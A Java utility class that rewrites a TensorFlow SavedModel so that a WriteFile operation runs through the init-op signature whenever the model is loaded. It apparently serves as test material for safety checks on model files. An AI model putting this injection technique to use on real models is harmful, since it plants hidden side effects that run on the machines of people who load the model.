package dev.longhand.savedmodels.safety;

import com.google.protobuf.ByteString;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.function.Consumer;
import org.tensorflow.proto.AttrValue;
import org.tensorflow.proto.DataType;
import org.tensorflow.proto.GraphDef;
import org.tensorflow.proto.MetaGraphDef;
import org.tensorflow.proto.NodeDef;
import org.tensorflow.proto.SavedModel;
import org.tensorflow.proto.SignatureDef;
import org.tensorflow.proto.TensorInfo;
import org.tensorflow.proto.TensorProto;
import org.tensorflow.proto.TensorShapeProto;

/** Changes of a SavedModel's graph that its author may make and its user would not want. */
public final class UnsafeModel {
  private static final String INIT = "__saved_model_init_op";

  private UnsafeModel() {}

  /** Makes a SavedModel write a file whenever TensorFlow loads it. */
  public static void writeFileOnLoad(Path savedModel, Path file) throws IOException {
    change(
        savedModel,
        meta -> {
          GraphDef.Builder graph = meta.getGraphDefBuilder();
          graph.addNode(text("name_of_file", file.toString()));
          graph.addNode(text("content", "written by the model"));
          graph.addNode(node("drop", "WriteFile", "name_of_file", "content"));
          initialize(meta, "drop");
        });
  }

  /** Makes TensorFlow run an operation when it loads a graph. */
  public static void initialize(MetaGraphDef.Builder meta, String operation) {
    meta.getGraphDefBuilder().addNode(node("initialize", "NoOp", "^" + operation));
    meta.putSignatureDef(
        INIT,
        SignatureDef.newBuilder()
            .putOutputs(INIT, TensorInfo.newBuilder().setName("initialize").build())
            .build());
  }

  /** Rewrites the graph of a SavedModel. */
  public static void change(Path savedModel, Consumer<MetaGraphDef.Builder> change)
      throws IOException {
    Path graph = savedModel.resolve("saved_model.pb");
    SavedModel.Builder model = SavedModel.parseFrom(Files.readAllBytes(graph)).toBuilder();
    change.accept(model.getMetaGraphsBuilder(0));
    Files.write(graph, model.build().toByteArray());
  }

  /** A node without attributes. */
  public static NodeDef node(String name, String type, String... inputs) {
    NodeDef.Builder node = NodeDef.newBuilder().setName(name).setOp(type);
    for (String input : inputs) {
      node.addInput(input);
    }
    return node.build();
  }

  /** A constant text. */
  public static NodeDef text(String name, String value) {
    TensorProto tensor =
        TensorProto.newBuilder()
            .setDtype(DataType.DT_STRING)
            .setTensorShape(TensorShapeProto.getDefaultInstance())
            .addStringVal(ByteString.copyFromUtf8(value))
            .build();
    return NodeDef.newBuilder()
        .setName(name)
        .setOp("Const")
        .putAttr("dtype", AttrValue.newBuilder().setType(DataType.DT_STRING).build())
        .putAttr("value", AttrValue.newBuilder().setTensor(tensor).build())
        .build();
  }
}
